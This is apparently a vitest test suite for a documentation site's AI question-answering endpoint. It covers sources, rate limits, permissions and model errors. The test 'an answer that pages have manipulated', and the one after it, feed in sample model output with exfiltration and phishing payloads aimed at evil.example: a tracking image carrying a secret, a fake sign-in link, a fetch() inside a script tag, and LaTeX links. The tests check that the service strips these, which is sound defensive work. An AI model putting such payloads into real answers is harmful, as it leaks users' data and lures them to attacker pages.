import { beforeAll, describe, expect, it, onTestFinished } from "vitest";
import { type Service, startService } from "../../../pins/service.ts";
import { type ModelReply, misbehaviours, modelKey, startModelEndpoint } from "../../../support/model-endpoint.ts";
import { insertPages, makeChangeRequest, makeSpace, member } from "../../http/content.ts";
import { addPerson } from "../../http/people.ts";
import { sendAs } from "../../knowledge/conversations/conversing.ts";

const install = [
  "# Install",
  "",
  "Run the installer with `setup --quiet`. Get it at https://downloads.example.com/setup.",
  "",
  "## Uninstall",
  "",
  "Delete the folder of the installer.",
].join("\n");

interface Shown {
  readonly number: number;
  readonly page: string;
  readonly section?: string;
  readonly text: string;
}

const shownIn = (data: string) => (JSON.parse(data) as { passages: Shown[] }).passages;

/** A model that answers from the first passage that contains the word. */
const answering =
  (text: string, passages: readonly number[] = [1], followUps: readonly string[] = []): ModelReply =>
  () => ({ isTold: text !== "", text, passages, followUps });

async function desk(reply: ModelReply) {
  const endpoint = await startModelEndpoint(reply);
  const service = await startService(undefined, { model: endpoint.settings });
  onTestFinished(async () => {
    await service.close();
    expect(service.log).toEqual([]);
  });
  const space = await publish(service, [{ title: "Install", markdown: install }]);
  const ask = (body: object, query = "?format=markdown") =>
    service.send(`POST /v1/orgs/${service.organization}/ask${query}`, { body: JSON.stringify(body) });
  return { endpoint, service, space, ask };
}

async function publish(service: Service, pages: readonly { title: string; markdown: string }[]): Promise<string> {
  const space = await makeSpace(service);
  const changeRequest = await makeChangeRequest(service, space);
  await insertPages(
    service,
    changeRequest,
    pages.map(({ title, markdown }) => ({ title, document: { markdown } })),
  );
  await service.send(`POST ${changeRequest}/merge`);
  return space;
}

describe("a question", () => {
  it("is answered from the passages that search finds, and the answer names them", async () => {
    const { service, space, ask, endpoint } = await desk(
      answering("Run `setup --quiet`.", [1, 99, 1], ["How do I uninstall?", "  "]),
    );
    const answer = await ask({ query: "How do I run the installer?" });
    const { pages } = (await service.send(`GET /v1/spaces/${space}/content`)).json as { pages: { id: string }[] };
    const page = pages[0]?.id;
    const revision = member(await service.send(`GET /v1/spaces/${space}`), "revision");
    expect([answer.status, answer.json]).toEqual([
      200,
      {
        answer: {
          answer: { markdown: "Run `setup --quiet`." },
          followupQuestions: ["How do I uninstall?"],
          sources: [{ type: "page", page, revision, space, sections: [`${page}#`] }],
        },
      },
    ]);
    const [asked] = endpoint.asked;
    expect(endpoint.asked).toHaveLength(1);
    expect(JSON.parse(asked?.data ?? "")).toMatchObject({ question: "How do I run the installer?" });
    expect(shownIn(asked?.data ?? "")).toEqual([
      { number: 1, page: "Install", text: expect.stringContaining("Run the installer with") },
      { number: 2, page: "Install", section: "Uninstall", text: "Delete the folder of the installer." },
    ]);
  });

  it("is answered as a document unless Markdown is requested", async () => {
    const { ask } = await desk(answering("Run it."));
    const answer = await ask({ query: "installer" }, "");
    expect(member(answer, "answer.answer.document.nodes.0")).toMatchObject({ object: "block", type: "paragraph" });
    expect(member(answer, "answer.answer.markdown")).toBeUndefined();
  });

  it("is also searched with the words of the one it follows", async () => {
    const { ask, endpoint } = await desk(answering("Delete it."));
    await ask({ query: "And the opposite?", previousQueries: ["How do I run the installer?"] });
    const { askedBefore } = JSON.parse(endpoint.asked[0]?.data ?? "") as { askedBefore: string[] };
    expect(askedBefore).toEqual(["How do I run the installer?"]);
    expect(shownIn(endpoint.asked[0]?.data ?? "").length).toBeGreaterThan(0);
  });
});

describe("a question that the content does not answer", () => {
  const none = { answer: { followupQuestions: [], sources: [] } };

  it("has no text when the model says so", async () => {
    const { ask } = await desk(answering("", []));
    expect((await ask({ query: "What does the installer cost?" })).json).toEqual(none);
  });

  it("has none when nothing is found, and the model is not asked", async () => {
    const { ask, endpoint } = await desk(answering("Forty-two."));
    expect((await ask({ query: "zebra" })).json).toEqual(none);
    expect(endpoint.asked).toEqual([]);
  });

  it.each([[[]], [[0, 7, -1]]])("has none when the model names %j as its sources", async (passages) => {
    const { ask } = await desk(answering("The installer costs nothing.", passages));
    expect((await ask({ query: "What does the installer cost?" })).json).toEqual(none);
  });
});

describe("an answer that pages have manipulated", () => {
  it("reaches a reader without anything that loads, or links to places that the passages do not", async () => {
    const { ask } = await desk(
      answering(
        [
          "Get it at https://downloads.example.com/setup or https://evil.example/x.",
          "",
          "![p](https://evil.example/p.png?q=secret) [Sign in](https://evil.example/login) <img src='https://evil.example/i'>",
          "",
          '{% embed url="https://evil.example/e" %}',
          "",
          "<script>fetch('https://evil.example/s')</script>",
          "",
          "```sh\ncurl https://api.example.org\n```",
        ].join("\n"),
      ),
    );
    const markdown = member(await ask({ query: "installer" }), "answer.answer.markdown") as string;
    expect(markdown).not.toContain("evil.example");
    expect(markdown).toContain("\\<script>");
    expect(markdown).toContain("<https://downloads.example.com/setup> or (address removed).");
    expect(markdown).toContain("Sign in");
    expect(markdown).toContain("```sh\ncurl https://api.example.org\n```");
    const document = await ask({ query: "installer" }, "?format=document");
    expect(document.text).not.toContain("evil.example");
  });
});

describe("an address that is longer in the passages than in the answer", () => {
  it("leads elsewhere and is removed, and so are formulas with links", async () => {
    const said = [
      "Go to [a](https://downloads.example.co), [b](https://downloads.example.com/setup) or https://downloads.example.com/set.",
      "",
      "Then $$\\href{https://evil.example}{x}$$ and $$\\includegraphics{evil.example/y}$$ and $$a^2$$.",
    ];
    const { ask } = await desk(answering(said.join("\n")));
    expect(member(await ask({ query: "installer" }), "answer.answer.markdown")).toBe(
      "Go to a, [b](https://downloads.example.com/setup) or (address removed).\n\nThen  and  and $$a^2$$.",
    );
  });
});

describe("one user", () => {
  it("may ask at most 20 questions a minute, because the operator pays for them", async () => {
    const { ask, endpoint, service } = await desk(answering("Run it."));
    const answers = await Promise.all(Array.from({ length: 22 }, () => ask({ query: "installer" })));
    expect(answers.map(({ status }) => status).sort()).toEqual([...Array(20).fill(200), 429, 429]);
    expect(endpoint.asked).toHaveLength(20);
    const refused = answers.find(({ status }) => status === 429);
    expect(refused?.headers.get("Retry-After")).toBe("3");
    expect(refused?.text).toContain("query: you may ask 20 questions a minute. Wait 3 s, or search the content");
    const { token } = await addPerson(service, service.organization, "read");
    expect(
      (await sendAs(service, token, `POST /v1/orgs/${service.organization}/ask`, { query: "installer" })).status,
    ).toBe(200);
  });
});

describe("a user who may not read a page", () => {
  it("gets no passage of it sent to the model, nor named as a source", async () => {
    const { service, ask, endpoint } = await desk(answering("It is 7.", [1]));
    const guest = await addPerson(service, service.organization, null);
    const path = `POST /v1/orgs/${service.organization}/ask?format=markdown`;
    const answer = await sendAs(service, guest.token, path, { query: "How do I run the installer?" });
    expect([answer.status, answer.json]).toEqual([200, { answer: { followupQuestions: [], sources: [] } }]);
    expect(endpoint.asked).toEqual([]);
    expect(member(await ask({ query: "installer" }), "answer.sources.0.type")).toBe("page");
  });

  it("gets no answer if the right is lost while the model is working", async () => {
    let during = async () => {};
    const { service, ask, space } = await desk(async () => {
      await during();
      return { isTold: true, text: "Run it.", passages: [1], followUps: [] };
    });
    during = async () => {
      await service.send(`DELETE /v1/spaces/${space}`);
    };
    expect(await ask({ query: "installer" })).toMatchObject({ status: 503 });
  });
});

describe("a model that fails", () => {
  it.each([
    ["refuses the key", 502, "The language model answered 401 (invalid_api_key)."],
    ["is busy for an hour", 503, "The language model answered 429 (rate_limit_exceeded)."],
    ["answers prose", 502, "The language model returned an answer that does not match the requested schema."],
  ] as const)("causes an error that says so because it %s", async (name, status, message) => {
    const { ask } = await desk(misbehaviours[name]);
    const answer = await ask({ query: "installer" });
    expect([answer.status, answer.json]).toEqual([status, { error: { code: status, message, changed: false } }]);
    expect(answer.text).not.toContain(modelKey);
  });

  it("is abandoned when the caller goes away, and when the platform closes", async () => {
    const endpoint = await startModelEndpoint(misbehaviours["never answers"]);
    const service = await startService(undefined, { model: endpoint.settings });
    await publish(service, [{ title: "Install", markdown: install }]);
    const url = `https://docs.example.com/v1/orgs/${service.organization}/ask`;
    const headers = { Authorization: `Bearer ${service.token}`, "Content-Type": "application/json" };
    const send = (signal?: AbortSignal) =>
      service.platform.fetch(
        new Request(url, { method: "POST", headers, body: '{"query":"installer"}', ...(signal && { signal }) }),
      );
    const controller = new AbortController();
    const left = send(controller.signal);
    while (endpoint.asked.length < 1) await new Promise((resolve) => setTimeout(resolve, 5));
    controller.abort();
    expect((await left).status).toBe(408);
    const waiting = send();
    while (endpoint.asked.length < 2) await new Promise((resolve) => setTimeout(resolve, 5));
    const [answer] = await Promise.all([waiting, service.close()]);
    expect(answer.status).toBe(503);
    expect(service.log).toEqual([]);
  });
});

describe("without a model", () => {
  let service: Service;
  beforeAll(async () => {
    service = await startService();
    return () => service.close();
  });

  it("names the settings for one, to those who may ask", async () => {
    const path = `POST /v1/orgs/${service.organization}/ask`;
    const answer = await service.send(path, { body: '{"query":"x"}' });
    expect(answer.status).toBe(501);
    expect(answer.text).toContain("--model-url and --model");
    expect((await service.send(path.replace(service.organization, "nowhere"), { body: '{"query":"x"}' })).status).toBe(
      404,
    );
  });
});
